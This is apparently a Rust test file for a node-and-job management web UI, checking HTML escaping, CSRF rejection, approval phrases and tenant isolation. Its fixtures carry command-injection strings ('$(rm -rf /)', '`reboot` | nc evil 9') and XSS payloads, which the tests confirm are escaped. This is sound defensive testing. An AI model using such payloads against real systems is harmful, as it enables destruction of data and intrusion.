//! The pages of nodes and jobs over plain HTTP: agent-reported text comes back escaped
//! in the page and unchanged in the API, the forms drive the same core calls as the
//! JSON routes, and another tenant's records are pages that do not exist.

use reqwest::header::{CONTENT_TYPE, COOKIE, LOCATION};
use reqwest::StatusCode;
use serde_json::json;
use works_core::{Container, EnrollRequest, JobReport, Role};
use works_testkit::{TestServer, ADMIN_PASSWORD, USER_PASSWORD};

use super::{check_in, container, create_node, enroll_agent, request_job};
use crate::browser_session::{sign_in, Browser};
use crate::common::as_admin;

crate::on_both_backends!(
    container_text_is_escaped_in_the_page_and_unchanged_in_the_api,
    the_pages_drive_nodes_and_jobs,
    another_tenants_node_and_job_pages_do_not_exist,
);

async fn page(s: &TestServer, b: &Browser, path: &str) -> (StatusCode, String) {
    let r = s.client().get(s.url(path)).header(COOKIE, &b.cookie).send().await.unwrap();
    (r.status(), r.text().await.unwrap())
}

/// Posts a form with the browser's CSRF token; the status, the redirect target and the body.
async fn submit(s: &TestServer, b: &Browser, path: &str, fields: &[(&str, &str)]) -> (StatusCode, String, String) {
    let mut f = form_urlencoded::Serializer::new(String::new());
    for (k, v) in fields {
        f.append_pair(k, v);
    }
    f.append_pair("csrf_token", &b.csrf);
    let r = s
        .client()
        .post(s.url(path))
        .header(COOKIE, &b.cookie)
        .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(f.finish())
        .send()
        .await
        .unwrap();
    let status = r.status();
    let location = r.headers().get(LOCATION).map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (status, location, r.text().await.unwrap())
}

/// The id at the end of `/ui/jobs/<id>?…` or `/ui/nodes/<id>?…`.
fn id_in(location: &str) -> String {
    location.rsplit('/').next().unwrap().split('?').next().unwrap().to_owned()
}

async fn container_text_is_escaped_in_the_page_and_unchanged_in_the_api(s: &TestServer) {
    let node = create_node(s, &s.admin_token, "edge-01", None).await;
    let node_id = node["id"].as_str().unwrap();
    let agent = enroll_agent(s, node_id).await;
    let evil: Vec<Container> = vec![
        container(
            "$(rm -rf /)",
            "evil/image:1\"><img src=x onerror=alert(1)>",
            &[("<script>alert(1)</script>", "<script>alert(2)</script>"), ("note", "a & b 'quoted' \"double\"")],
        ),
        container("web;shutdown -h now", "nginx:1.27", &[("com.example.cmd", "`reboot` | nc evil 9")]),
    ];
    check_in(s, &agent, evil.clone()).await;

    let browser = sign_in(s, "admin", ADMIN_PASSWORD).await;
    let (status, html) = page(s, &browser, &format!("/ui/nodes/{node_id}")).await;
    assert_eq!(status, 200, "{html}");
    assert!(!html.contains("<script>alert"), "markup from a label reached the page: {html}");
    assert!(!html.contains("<img src=x"), "markup from an image reached the page: {html}");
    assert!(html.contains("&#60;script&#62;alert(1)&#60;/script&#62;") || html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
    assert!(html.contains("$(rm -rf /)"), "the name is shown as text: {html}");
    assert!(html.contains("web;shutdown -h now"), "{html}");
    assert!(html.contains("`reboot` | nc evil 9"), "{html}");
    assert!(!html.contains("'quoted' \"double\""), "quotes are escaped: {html}");
    assert!(html.contains("Online"), "{html}");
    assert!(html.contains("evil/image:1"), "{html}");
    // The page forbids inline script in any case.
    let r = s.client().get(s.url(&format!("/ui/nodes/{node_id}"))).header(COOKIE, &browser.cookie).send().await.unwrap();
    let csp = r.headers()["content-security-policy"].to_str().unwrap().to_owned();
    assert!(csp.contains("default-src 'none'") && !csp.contains("unsafe-inline"), "{csp}");

    // The API gives the text back exactly as the agent sent it.
    let api = as_admin(s).get(&format!("/api/v1/nodes/{node_id}/containers")).await;
    let back: Vec<Container> = serde_json::from_value(api.expect_status(200).clone()).unwrap();
    assert_eq!(back, evil);
    assert_eq!(api.body[0]["labels"]["<script>alert(1)</script>"], "<script>alert(2)</script>");
    assert_eq!(api.body[0]["name"], "$(rm -rf /)");

    // The roster shows the node with its status in plain words.
    let (_, html) = page(s, &browser, "/ui/nodes").await;
    assert!(html.contains("edge-01") && html.contains("Shared MSP infrastructure") && html.contains("Online"), "{html}");
}

async fn the_pages_drive_nodes_and_jobs(s: &TestServer) {
    let acme = s.create_org("Acme & Sons").await;
    let b = sign_in(s, "admin", ADMIN_PASSWORD).await;

    let (status, html) = page(s, &b, "/ui/nodes").await;
    assert_eq!(status, 200);
    assert!(html.contains(r#"href="/ui/nodes" aria-current="page">Nodes</a>"#), "{html}");
    assert!(html.contains(r#"href="/ui/jobs""#), "{html}");
    assert!(html.contains("Add node") && html.contains("No nodes to show."), "{html}");
    assert!(html.contains("Acme &#38; Sons") || html.contains("Acme &amp; Sons"), "{html}");

    // Adding: a bad name stays on the form with the problem next to it.
    let (status, _, html) = submit(s, &b, "/ui/nodes", &[("name", "web;reboot"), ("org_id", &acme.id)]).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(html.contains(r#"id="n-name-error">May contain only letters"#), "{html}");
    assert!(html.contains(r#"value="web;reboot""#), "what was typed is kept: {html}");
    let (status, location, _) = submit(s, &b, "/ui/nodes", &[("name", "acme-web-01"), ("org_id", &acme.id)]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert!(location.ends_with("?notice=created"), "{location}");
    let node_id = id_in(&location);
    let (status, html) = page(s, &b, &location).await;
    assert_eq!(status, 200);
    for text in ["The node was added.", "Offline", "No agent has enrolled yet.", "Create enrollment token", "Request health check", "Request inventory refresh", "View logs", "Retire this node", "Revoke agent"] {
        assert!(html.contains(text), "{text} is missing: {html}");
    }

    // The enrollment token and the exact command, shown once.
    let (status, _, html) = submit(s, &b, &format!("/ui/nodes/{node_id}/enrollment-token"), &[]).await;
    assert_eq!(status, 200);
    let token = html.split("--token ").nth(1).unwrap().split_whitespace().next().unwrap().to_owned();
    assert!(token.starts_with("wke_"), "{html}");
    let server = s.url.trim_start_matches("http://");
    assert!(html.contains(&format!("works agent enroll --server http://{server} --token {token} --state-dir ")), "{html}");
    assert!(html.contains("shown only this once"), "{html}");
    let (_, html) = page(s, &b, &format!("/ui/nodes/{node_id}")).await;
    assert!(!html.contains(&token), "the token is not shown again");
    let cred = s.works.agent_enroll(EnrollRequest { token, hostname: None, agent_version: None }).await.unwrap();
    let agent = s.works.authenticate_agent(&cred.credential).await.unwrap();
    check_in(s, &agent, vec![container("openclaw-gateway", "openclaw/openclaw:2026.1", &[])]).await;
    let (_, html) = page(s, &b, &format!("/ui/nodes/{node_id}")).await;
    for text in ["Online", "openclaw-gateway", "Reachable, version 26.1.5", "3 days, 2 hours", "1.0 GB free of 4.0 GB", "0.1.0-test"] {
        assert!(html.contains(text), "{text} is missing: {html}");
    }

    // Requests from the node page.
    let (status, location, _) = submit(s, &b, &format!("/ui/nodes/{node_id}/jobs"), &[("kind", "health_check")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let health_id = id_in(&location);
    let (_, html) = page(s, &b, &location).await;
    for text in ["Health check on", "acme-web-01", "The work was requested.", "Waiting for the agent", "0 of 3", "60 seconds", "Cancel"] {
        assert!(html.contains(text), "{text} is missing: {html}");
    }
    let (status, location, _) =
        submit(s, &b, &format!("/ui/nodes/{node_id}/jobs"), &[("kind", "logs"), ("container", "openclaw-gateway")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let logs = s.works.job_get(&s.admin, &id_in(&location)).await.unwrap();
    assert_eq!(logs.params, json!({"container": "openclaw-gateway"}));
    let (status, _, _) = submit(s, &b, &format!("/ui/nodes/{node_id}/jobs"), &[("kind", "format_disk")]).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // Approval: the phrase is shown; a wrong one is refused inline and the job waits.
    let deploy = request_job(s, &s.admin_token, &node_id, "deploy", json!({"version": "2026.1"})).await;
    let deploy_id = deploy["id"].as_str().unwrap().to_owned();
    let (_, html) = page(s, &b, &format!("/ui/jobs/{deploy_id}")).await;
    for text in ["Waiting for approval", "Needs approval", "<code>deploy openclaw on acme-web-01</code>", r#"name="phrase""#, "0 of 1", "15 minutes"] {
        assert!(html.contains(text), "{text} is missing: {html}");
    }
    let (status, _, html) = submit(s, &b, &format!("/ui/jobs/{deploy_id}/approve"), &[("phrase", "deploy openclaw on acme-web-02")]).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(html.contains(r#"id="approve-phrase-error" role="alert">Does not match; type exactly: deploy openclaw on acme-web-01"#), "{html}");
    assert!(html.contains(r#"value="deploy openclaw on acme-web-02""#), "{html}");
    assert_eq!(s.works.job_get(&s.admin, &deploy_id).await.unwrap().state, works_core::JobState::AwaitingApproval);
    let (status, location, _) = submit(s, &b, &format!("/ui/jobs/{deploy_id}/approve"), &[("phrase", "deploy openclaw on acme-web-01")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, html) = page(s, &b, &location).await;
    assert!(html.contains("Approved.") && html.contains("Waiting for the agent") && html.contains("Approved</dt><dd>admin"), "{html}");
    let (status, location, _) = submit(s, &b, &format!("/ui/jobs/{deploy_id}/cancel"), &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, html) = page(s, &b, &location).await;
    assert!(html.contains("The job was cancelled.") && html.contains("Cancelled by admin."), "{html}");
    let (status, _, html) = submit(s, &b, &format!("/ui/jobs/{deploy_id}/cancel"), &[]).await;
    assert_eq!(status, StatusCode::CONFLICT);
    assert!(html.contains("can no longer be cancelled"), "{html}");

    // A failed job: its output behind "View output", escaped, and Retry.
    let claimed = s.works.agent_claim(&agent, std::time::Duration::ZERO).await.unwrap().unwrap();
    assert_eq!(claimed.id, health_id);
    let report = JobReport {
        succeeded: false,
        result: Some(json!({"checked": "<disk>"})),
        output: Some("<b>disk</b> check\nfailed".into()),
        reason: Some("The disk is full.".into()),
    };
    s.works.agent_job_complete(&agent, &health_id, report).await.unwrap();
    let (_, html) = page(s, &b, &format!("/ui/jobs/{health_id}")).await;
    for text in ["Failed", "The disk is full.", "1 of 3", "<summary>View output</summary>", "disk&#60;/b&#62; check\nfailed", "Technical details", "Retry"] {
        assert!(html.contains(text) || html.contains(&text.replace("&#60;", "&lt;").replace("&#62;", "&gt;")), "{text} is missing: {html}");
    }
    assert!(!html.contains("<b>disk</b>"), "{html}");
    let (status, location, _) = submit(s, &b, &format!("/ui/jobs/{health_id}/retry"), &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let retry_id = id_in(&location);
    assert_ne!(retry_id, health_id);
    let (_, html) = page(s, &b, &location).await;
    assert!(html.contains("This is a new attempt of the earlier job.") && html.contains(&format!("/ui/jobs/{health_id}")), "{html}");

    // The jobs list: state label, kind, node, attempts, time allowed, reason; filtered by state.
    let (_, html) = page(s, &b, "/ui/jobs").await;
    for text in ["Deploy OpenClaw", "Health check", "Logs", "acme-web-01", "Cancelled", "Failed", "The disk is full.", "1 of 3", "15 minutes"] {
        assert!(html.contains(text), "{text} is missing: {html}");
    }
    let (_, html) = page(s, &b, "/ui/jobs?state=cancelled").await;
    assert!(html.contains("Deploy OpenClaw") && !html.contains(">Health check</a>"), "{html}");
    assert!(html.contains(r#"<option value="cancelled" selected>"#), "{html}");
    let (_, html) = page(s, &b, &format!("/ui/jobs?node_id={node_id}&state=failed")).await;
    assert!(html.contains(&format!("/ui/jobs/{health_id}")) && !html.contains(&format!("/ui/jobs/{retry_id}")), "{html}");
    let (status, html) = page(s, &b, "/ui/jobs?state=sleeping").await;
    assert_eq!(status, 400);
    assert!(html.contains("awaiting_approval"), "{html}");

    // Forms without the CSRF token are refused.
    let r = s
        .client()
        .post(s.url(&format!("/ui/nodes/{node_id}/retire")))
        .header(COOKIE, &b.cookie)
        .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body("")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    // Rename, revoke and retire, with a confirmation page first.
    let (status, _, _) = submit(s, &b, &format!("/ui/nodes/{node_id}/rename"), &[("name", "acme-web-02")]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (status, location, _) = submit(s, &b, &format!("/ui/nodes/{node_id}/revoke-agent"), &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, html) = page(s, &b, &location).await;
    assert!(html.contains("credential was revoked"), "{html}");
    assert!(s.works.authenticate_agent(&cred.credential).await.is_err());
    let (status, html) = page(s, &b, &format!("/ui/nodes/{node_id}/retire")).await;
    assert_eq!(status, 200);
    assert!(html.contains("Retire “acme-web-02”?") && html.contains("Yes, retire it"), "{html}");
    let (status, location, _) = submit(s, &b, &format!("/ui/nodes/{node_id}/retire"), &[]).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, html) = page(s, &b, &location).await;
    assert!(html.contains("The node was retired.") && html.contains("Retired "), "{html}");
    assert!(!html.contains("Create enrollment token"), "{html}");
    let (_, html) = page(s, &b, "/ui/nodes").await;
    assert!(!html.contains("acme-web-02"), "a retired node leaves the default roster: {html}");
    let (_, html) = page(s, &b, "/ui/nodes?retired=true").await;
    assert!(html.contains("acme-web-02"), "{html}");
}

async fn another_tenants_node_and_job_pages_do_not_exist(s: &TestServer) {
    let org_a = s.create_org("Alpha").await;
    let org_b = s.create_org("Beta").await;
    s.create_user("alpha-admin", Role::OrgAdmin, Some(&org_a.id)).await;
    s.create_user("alpha-user", Role::OrgUser, Some(&org_a.id)).await;
    let a_node = create_node(s, &s.admin_token, "alpha-web-01", Some(&org_a.id)).await;
    let a_node_id = a_node["id"].as_str().unwrap();
    let b_node = create_node(s, &s.admin_token, "beta-web-01", Some(&org_b.id)).await;
    let b_node_id = b_node["id"].as_str().unwrap();
    let b_job = request_job(s, &s.admin_token, b_node_id, "restart", json!({})).await;
    let b_job_id = b_job["id"].as_str().unwrap();

    let a = sign_in(s, "alpha-admin", USER_PASSWORD).await;
    let (_, html) = page(s, &a, "/ui/nodes").await;
    assert!(html.contains("alpha-web-01") && !html.contains("beta-web-01"), "{html}");
    assert!(!html.contains(r#"<option value="">Shared MSP infrastructure</option>"#), "{html}");
    let (status, html) = page(s, &a, &format!("/ui/nodes/{b_node_id}")).await;
    assert_eq!(status, 404);
    assert!(html.contains(&format!("No node with id {b_node_id} exists")) && !html.contains("beta-web-01"), "{html}");
    let (status, _) = page(s, &a, &format!("/ui/jobs/{b_job_id}")).await;
    assert_eq!(status, 404);
    let (status, _, _) = submit(s, &a, &format!("/ui/jobs/{b_job_id}/approve"), &[("phrase", "restart openclaw on beta-web-01")]).await;
    assert_eq!(status, 404);
    let (status, _, html) = submit(s, &a, &format!("/ui/nodes/{b_node_id}/enrollment-token"), &[]).await;
    assert_eq!(status, 404);
    assert!(!html.contains("wke_"), "{html}");
    let (_, html) = page(s, &a, "/ui/jobs").await;
    assert!(!html.contains("beta-web-01") && !html.contains(b_job_id), "{html}");
    assert_eq!(s.works.job_get(&s.admin, b_job_id).await.unwrap().state, works_core::JobState::AwaitingApproval);

    let u = sign_in(s, "alpha-user", USER_PASSWORD).await;
    let (status, html) = page(s, &u, "/ui/nodes").await;
    assert_eq!(status, 200);
    assert!(html.contains("No nodes to show.") && !html.contains("Add node"), "{html}");
    let (status, _) = page(s, &u, &format!("/ui/nodes/{a_node_id}")).await;
    assert_eq!(status, 404);
}
